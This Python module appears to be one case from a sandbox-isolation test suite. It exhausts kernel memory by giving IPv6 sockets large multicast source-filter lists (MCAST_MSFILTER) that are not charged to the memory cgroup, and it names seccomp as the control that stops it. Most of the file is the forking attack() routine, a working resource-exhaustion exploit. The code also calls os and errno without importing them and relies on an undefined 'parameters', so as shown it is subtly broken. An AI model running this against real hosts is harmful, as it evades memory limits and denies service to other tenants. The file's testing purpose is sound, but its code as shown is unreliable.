"""Give sockets lists of senders to listen to.

Technique: an IPv6 socket joins multicast groups and names 64 senders for each (MCAST_MSFILTER). The lists take two kilobytes a
    group, up to net.core.optmem_max bytes a socket, and are charged to no memory cgroup.
Success: the lists take the memory limit.
Stopped by: seccomp
Needs: memory_cgroup
"""
import socket
import struct
import time

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
MCAST_JOIN_GROUP, MCAST_MSFILTER, EXCLUDE = 42, 48, 0
# 64 addresses of 16 bytes and a head, out of a slab of 2048.
LIST_BYTES, SENDERS = 2048, 64
PROCESSES, SOCKETS, GROUPS, SECONDS = 4, 900, 110, 7


def address(text):
    """struct sockaddr_in6 in a struct sockaddr_storage."""
    return struct.pack("=HHI16sI100x", socket.AF_INET6, 0, 0, socket.inet_pton(socket.AF_INET6, text), 0)


def hold(until, ready):
    interface = struct.pack("=I4x", 1)  # lo is the first one.
    senders = struct.pack("=II", EXCLUDE, SENDERS) + b"".join(address(f"fd00::{number:x}") for number in range(SENDERS))
    groups = [interface + address(f"ff02::1:{number:x}") for number in range(GROUPS)]
    sockets, lists, refused = [], 0, 0
    try:
        while len(sockets) < SOCKETS and time.monotonic() < until and lists * LIST_BYTES <= LIMIT * 5 // 4 // PROCESSES:
            sockets.append(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
            try:
                for group in groups:
                    sockets[-1].setsockopt(socket.IPPROTO_IPV6, MCAST_JOIN_GROUP, group)
                    sockets[-1].setsockopt(socket.IPPROTO_IPV6, MCAST_MSFILTER, group + senders)
                    lists += 1
            except OSError as error:
                # This one has what it may have: 20 KB before Linux 6.7, 128 KB since.
                if error.errno not in (errno.ENOBUFS, errno.ENOMEM) or not lists:
                    raise
    except OSError as error:
        refused = error.errno
    os.write(ready, struct.pack("qq", lists, refused))


def attack():
    ready, go_on = os.pipe(), os.pipe()
    until = time.monotonic() + SECONDS
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                hold(until, ready[1])
                os.read(go_on[0], 1)
            finally:
                os._exit(0)
    lists, refusals = zip(*(struct.unpack("qq", os.read(ready[0], 16)) for _ in range(PROCESSES)))
    if sum(lists) * LIST_BYTES >= LIMIT:
        return f"{sum(lists)} lists take {sum(lists) * LIST_BYTES >> 20} MB"
    if any(refusals):
        raise OSError(max(refusals), os.strerror(max(refusals)))


def twin():
    """Datagrams over IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as receiver, socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
        receiver.bind(("::1", 0))
        sender.sendto(b"hello", receiver.getsockname()[:2])
        assert receiver.recv(100) == b"hello"
